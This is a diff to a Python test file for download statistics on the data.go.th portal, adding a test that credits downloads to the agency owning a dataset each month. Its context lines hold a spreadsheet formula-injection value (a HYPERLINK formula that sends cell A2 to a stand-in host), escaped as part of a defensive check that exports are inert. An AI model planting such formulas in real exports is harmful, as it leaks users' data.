@@ -424,3 +424,47 @@ def test_tsv_titles_are_inert_text(tmp_path: Path) -> None:
     body = pl.read_csv(tsv, separator="\t", skip_rows=11)
     assert set(body["Dataset_Title"]) >= {'\'=HYPERLINK("http://x/?d="&A2,"")'}
     assert "รายงานผู้ป่วยโควิด-19 รายวัน" not in set(body["Dataset_Title"])
+
+
+def test_a_dataset_that_moved_agency_is_reported_under_each_owner(tmp_path: Path) -> None:
+    """Downloads count for the agency that owned the dataset that day, as in the rankings."""
+    from ingest.catalog import load_catalog
+    from ingest.logs import ingest_logs
+    from tests.analytics.build import downloads
+    from tests.ingest.logkit import write
+
+    db = database(tmp_path, [])
+    moved = site.package("dengue")
+    cdd = site.package("village-fund")["organization"]
+    moved.update(organization=cdd, owner_org=cdd["id"], metadata_modified="2023-06-01T00:00:00")
+    second = tmp_path / "second.json"
+    second.write_text(json.dumps({"success": True, "result": moved}), encoding="utf-8")
+    load_catalog(db, [second])
+    lines = downloads("2023-05-10", "dengue", 2) + downloads("2023-07-10", "dengue", 3, first_ip=40)
+    ingest_logs(db, [write(tmp_path / "more.log", lines)])
+    con = duckdb.connect(str(db), read_only=True)
+    try:
+        whole = report_of(con, fiscal_year(2566))
+        cdd_only = report_of(con, fiscal_year(2566), agency="cdd")
+    finally:
+        con.close()
+    owners = [
+        (item["publisher-id"][0]["value"], item["performance"][0]["period"]["begin-date"])
+        for item in whole["report-datasets"]
+    ]
+    assert owners == [("data.go.th:cdd", "2023-07-01"), ("data.go.th:ddc", "2023-05-01")]
+    assert figures(whole) == {
+        ("dengue", "2023-05"): {
+            ("regular", "total-dataset-requests"): 2,
+            ("regular", "unique-dataset-requests"): 2,
+            ("regular", "total-dataset-investigations"): 2,
+            ("regular", "unique-dataset-investigations"): 2,
+        },
+        ("dengue", "2023-07"): {
+            ("regular", "total-dataset-requests"): 3,
+            ("regular", "unique-dataset-requests"): 3,
+            ("regular", "total-dataset-investigations"): 3,
+            ("regular", "unique-dataset-investigations"): 3,
+        },
+    }
+    assert set(figures(cdd_only)) == {("dengue", "2023-07")}
